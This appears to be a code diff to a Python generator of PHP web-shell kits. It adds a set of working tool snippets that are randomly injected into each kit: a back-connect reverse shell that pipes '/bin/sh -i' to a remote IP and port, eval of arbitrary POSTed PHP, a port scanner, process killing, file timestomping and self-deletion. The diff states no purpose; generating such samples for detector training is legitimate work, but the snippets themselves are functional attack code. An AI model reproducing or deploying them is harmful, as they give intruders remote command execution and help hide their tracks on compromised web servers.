@@ -53,6 +53,77 @@ def exec_fallback(fn):
 # long kits with a UI in one language
 
 
+KIT_TOOLS = {
+    "portscan": """<?php
+if (isset($_POST['scan_host'])) {
+    echo '<pre>';
+    foreach (explode(',', $_POST['scan_ports']) as $port) {
+        $fs = @fsockopen($_POST['scan_host'], (int) $port, $en, $es, 1);
+        echo (int) $port . ($fs ? ' open' : ' closed') . "\\n";
+        if ($fs) { fclose($fs); }
+    }
+    echo '</pre>';
+}
+?>
+<form method="post">Port scan: <input name="scan_host" value="127.0.0.1"> <input name="scan_ports" value="21,22,25,80,443,3306" size="30"><input type="submit" value="&gt;"></form>
+""",
+    "encoder": """<?php
+if (isset($_POST['enc_in'])) {
+    $in = $_POST['enc_in'];
+    echo '<table>';
+    foreach (array('base64_encode', 'base64_decode', 'md5', 'sha1', 'urlencode', 'urldecode', 'str_rot13', 'strrev', 'bin2hex') as $fn) {
+        echo '<tr><td>' . $fn . '</td><td>' . htmlspecialchars((string) @$fn($in)) . '</td></tr>';
+    }
+    echo '</table>';
+}
+?>
+<form method="post">Encoder: <textarea name="enc_in" cols="60" rows="3"></textarea><input type="submit" value="&gt;"></form>
+""",
+    "backconnect": """<?php
+if (!empty($_POST['bc_ip'])) {
+    $sock = @fsockopen($_POST['bc_ip'], (int) $_POST['bc_port'], $en, $es, 10);
+    if ($sock) {
+        fwrite($sock, "connected: " . php_uname() . "\\n");
+        $pr = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
+        proc_close($pr);
+    } else {
+        echo 'connect failed: ' . htmlspecialchars($es);
+    }
+}
+?>
+<form method="post">Back-connect: <input name="bc_ip" value="<?php echo $_SERVER['REMOTE_ADDR']; ?>"> <input name="bc_port" value="4444" size="5"><input type="submit" value="Connect"></form>
+""",
+    "procs": """<?php
+if (isset($_GET['a']) && $_GET['a'] == 'ps') {
+    echo '<pre>' . htmlspecialchars((string) @shell_exec('ps aux 2>&1')) . '</pre>';
+    if (!empty($_GET['kill'])) { @posix_kill((int) $_GET['kill'], 9); }
+}
+?>
+<a href="?a=ps">Processes</a>
+""",
+    "selfrm": """<?php
+if (isset($_GET['a']) && $_GET['a'] == 'selfremove') { @unlink(__FILE__); echo 'bye'; exit; }
+?>
+<a href="?a=selfremove" onclick="return confirm('?')">Self remove</a>
+""",
+    "phpeval": """<?php
+if (!empty($_POST['php_code'])) { echo '<pre>'; eval($_POST['php_code']); echo '</pre>'; }
+?>
+<form method="post">PHP: <textarea name="php_code" cols="80" rows="5"></textarea><input type="submit" value="Eval"></form>
+""",
+    "touch": """<?php
+if (isset($_POST['t_file'], $_POST['t_ref'])) { @touch($_POST['t_file'], @filemtime($_POST['t_ref'])); echo 'time changed'; }
+?>
+<form method="post">Touch: <input name="t_file"> like <input name="t_ref" value="index.php"><input type="submit" value="&gt;"></form>
+""",
+}
+
+
+def kit_tools(r):
+    names = sorted(KIT_TOOLS)
+    return "".join(KIT_TOOLS[n] for n in r.sample(names, r.randint(2, 5)))
+
+
 def kit(r, S, lang, extra=""):
     u = UI[lang]
     ex = "x" + rword(r, 3, "abcdefghijklmnopqrstuvwxyz")
@@ -132,7 +203,7 @@ if ($items) {
 %(extra)s
 <div class="ft">%(banner)s</div>
 </body></html>
-""" % dict(u, title=title, css=css(r), ex=ex, extra=extra, banner=banner)
+""" % dict(u, title=title, css=css(r), ex=ex, extra=extra + kit_tools(r), banner=banner)
     return code
 
 
